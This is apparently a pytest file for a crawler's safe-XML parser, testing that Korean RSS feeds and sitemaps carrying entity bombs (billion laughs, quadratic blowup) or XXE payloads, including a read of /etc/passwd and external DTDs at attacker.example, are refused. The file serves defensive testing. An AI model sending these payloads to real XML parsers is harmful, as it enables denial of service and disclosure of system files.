"""Unit tests for sokbo_crawler.safexml: entity bombs and external entities are refused."""

from __future__ import annotations

import time

import pytest

from sokbo.errors import PermanentError
from sokbo_crawler.safexml import UnsafeXMLError, XMLSyntaxError, check_xml, parse_xml

URL = "https://news.example.kr/rss.xml"
SITEMAP_NS = "http://www.sitemaps.org/schemas/sitemap/0.9"


def _rss(dtd: str = "", title: str = "속보", encoding: str = "utf-8") -> bytes:
    return (f'<?xml version="1.0" encoding="{encoding}"?>\n{dtd}\n<rss version="2.0"><channel>'
            f"<title>{title}</title><item><title>기사</title>"
            "<link>https://news.example.kr/a/1</link></item></channel></rss>\n"
            ).encode("cp949" if encoding == "euc-kr" else encoding)


def _sitemap(dtd: str = "", loc: str = "https://news.example.kr/a/1") -> bytes:
    return (f'<?xml version="1.0" encoding="UTF-8"?>\n{dtd}\n<urlset xmlns="{SITEMAP_NS}">'
            f"<url><loc>{loc}</loc><lastmod>2024-05-01</lastmod></url></urlset>\n").encode()


BILLION_LAUGHS = ('<!DOCTYPE rss [\n<!ENTITY lol0 "lol">\n'
                  + "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">\n' for i in range(1, 10))
                  + "]>")  # &lol9; is 10**9 "lol"s
QUADRATIC = f'<!DOCTYPE rss [\n<!ENTITY a "{"A" * 50_000}">\n]>'
XXE_FILE = '<!DOCTYPE rss [\n<!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>'
XXE_PARAMETER = ('<!DOCTYPE rss [\n<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd">\n'
                 "%remote;\n]>")
EXTERNAL_DTD = '<!DOCTYPE rss SYSTEM "http://attacker.example/evil.dtd">'

UNSAFE = {
    "billion laughs": _rss(BILLION_LAUGHS, title="&lol9;"),
    "quadratic blowup": _rss(QUADRATIC, title="&a;" * 5_000),
    "external entity": _rss(XXE_FILE, title="&xxe;"),
    "external parameter entity": _rss(XXE_PARAMETER),
    "external DTD": _rss(EXTERNAL_DTD),
    "unparsed entity": _rss('<!DOCTYPE rss [<!NOTATION gif SYSTEM "image/gif">'
                            '<!ENTITY logo SYSTEM "logo.gif" NDATA gif>]>'),
    "sitemap external entity": _sitemap(XXE_FILE, loc="&xxe;"),
    "sitemap billion laughs": _sitemap(BILLION_LAUGHS.replace("rss", "urlset"), loc="&lol9;"),
    # encodings expat cannot read must not hide the DTD from the check
    "EUC-KR feed": _rss(QUADRATIC, title="&a;&a;", encoding="euc-kr"),
    "UTF-16 feed": _rss(QUADRATIC, title="&a;&a;", encoding="utf-16"),
    "leading whitespace": b"\n\n  " + _rss(XXE_FILE, title="&xxe;"),
    "malformed prolog": _rss('<!DOCTYPEX rss [<!ENTITY a "AAAA">]>', title="&a;"),
}


@pytest.mark.parametrize("body", UNSAFE.values(), ids=UNSAFE.keys())
def test_unsafe_documents_are_refused_by_check(body: bytes) -> None:
    with pytest.raises(UnsafeXMLError) as info:
        check_xml(body, what="feed", url=URL)
    assert isinstance(info.value, PermanentError)
    assert f"feed {URL}" in str(info.value)


@pytest.mark.parametrize("body", UNSAFE.values(), ids=UNSAFE.keys())
def test_unsafe_documents_are_refused_by_parse(body: bytes) -> None:
    with pytest.raises(UnsafeXMLError, match="sitemap https://news.example.kr/sitemap.xml"):
        parse_xml(body, what="sitemap", url="https://news.example.kr/sitemap.xml")


@pytest.mark.parametrize(
    ("dtd", "reason"),
    [
        (BILLION_LAUGHS, "declares the entity 'lol"),
        (XXE_FILE, "external entity 'xxe' (file:///etc/passwd)"),
        (EXTERNAL_DTD, "external DTD (http://attacker.example/evil.dtd)"),
    ],
)
def test_messages_say_what_was_refused(dtd: str, reason: str) -> None:
    with pytest.raises(UnsafeXMLError, match="refused") as info:
        check_xml(_rss(dtd), what="feed", url=URL)
    assert reason in str(info.value)


SAFE = {
    "RSS": _rss(),
    "EUC-KR RSS": _rss(encoding="euc-kr"),
    "sitemap": _sitemap(),
    "internal subset without entities": _rss("<!DOCTYPE rss [<!ELEMENT rss ANY>]>"),
    "one-character entity": _rss('<!DOCTYPE rss [<!ENTITY nbsp "&#160;">]>', title="a&nbsp;b"),
    "RSS 0.91 Netscape DTD": _rss('<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS '
                                  '0.91//EN" "http://my.netscape.com/publish/formats/'
                                  'rss-0.91.dtd">'),
    "HTML5 doctype": b"<!DOCTYPE html><html><body>not a feed</body></html>",
    "XHTML page": (b'<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" '
                   b'"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><html/>'),
}


@pytest.mark.parametrize("body", SAFE.values(), ids=SAFE.keys())
def test_safe_documents_pass_the_check(body: bytes) -> None:
    check_xml(body, what="feed", url=URL)


MALFORMED = {
    "bare ampersand": _rss(title="Q&A"),
    "unclosed element": b'<?xml version="1.0"?><rss version="2.0"><channel><item></rss>',
    "undefined HTML entity": _rss(title="a&nbsp;b"),
    "empty": b"",
    "not XML": b"\x00\xff garbage",
    "truncated": _rss()[:60],
    "external DTD after a syntax error": b"<?xml version='1.0'?><<!DOCTYPE r SYSTEM 'x'><r/>",
}


@pytest.mark.parametrize("body", MALFORMED.values(), ids=MALFORMED.keys())
def test_malformed_but_harmless_passes_check_and_fails_parse(body: bytes) -> None:
    check_xml(body, what="feed", url=URL)  # left to feedparser's lenient parser
    with pytest.raises(XMLSyntaxError) as info:
        parse_xml(body, what="sitemap", url=URL)
    assert not isinstance(info.value, UnsafeXMLError)
    assert isinstance(info.value, PermanentError)


def test_syntax_error_names_line_and_column() -> None:
    body = b'<?xml version="1.0"?>\n<urlset>\n  <url><loc>a & b</loc></url>\n</urlset>'
    with pytest.raises(XMLSyntaxError, match="line 3, column 16: not well-formed") as info:
        parse_xml(body, what="sitemap", url="https://news.example.kr/sitemap.xml")
    assert (info.value.line, info.value.column) == (3, 16)  # 1-based, just after the "&"
    assert "sitemap https://news.example.kr/sitemap.xml" in str(info.value)


def test_parse_returns_the_root_element() -> None:
    root = parse_xml(_sitemap(), what="sitemap", url=URL)
    assert root.tag == f"{{{SITEMAP_NS}}}urlset"
    assert root.findtext(f"{{{SITEMAP_NS}}}url/{{{SITEMAP_NS}}}loc") == \
        "https://news.example.kr/a/1"


def test_parse_decodes_declared_euc_kr() -> None:
    root = parse_xml(_rss(title="똠방각하", encoding="euc-kr"), what="feed", url=URL)
    assert root.findtext("channel/title") == "똠방각하"  # 똠 is CP949-only


def test_parse_expands_one_character_entities() -> None:
    body = _rss('<!DOCTYPE rss [<!ENTITY nbsp "&#160;">]>', title="a&nbsp;b")
    assert parse_xml(body, what="feed", url=URL).findtext("channel/title") == "a\xa0b"


def _big_feed(size: int) -> bytes:
    item = ("<item><title>대통령, 오늘 국무회의 주재 &amp; 발언</title>"
            "<link>https://news.example.kr/article/{}</link>"
            "<description><![CDATA[<p>본문 요약입니다.</p>]]></description>"
            "<pubDate>Mon, 01 Jan 2024 09:00:00 +0900</pubDate></item>\n")
    parts, total, i = [], 0, 0
    while total < size:
        parts.append(item.format(i))
        total += len(parts[-1].encode())
        i += 1
    return _rss(title="속보").replace(b"<item>", "".join(parts).encode() + b"<item>", 1)


def test_five_megabyte_feed_is_checked_quickly() -> None:
    body = _big_feed(5 * 1024 * 1024)
    assert len(body) > 5 * 1024 * 1024
    started = time.perf_counter()
    check_xml(body, what="feed", url=URL)
    assert time.perf_counter() - started < 0.25  # only the prolog is parsed (~1 ms)


def test_five_megabyte_feed_is_parsed_in_reasonable_time() -> None:
    body = _big_feed(5 * 1024 * 1024)
    started = time.perf_counter()
    root = parse_xml(body, what="feed", url=URL)
    assert time.perf_counter() - started < 3.0
    assert len(root.findall("channel/item")) > 10_000
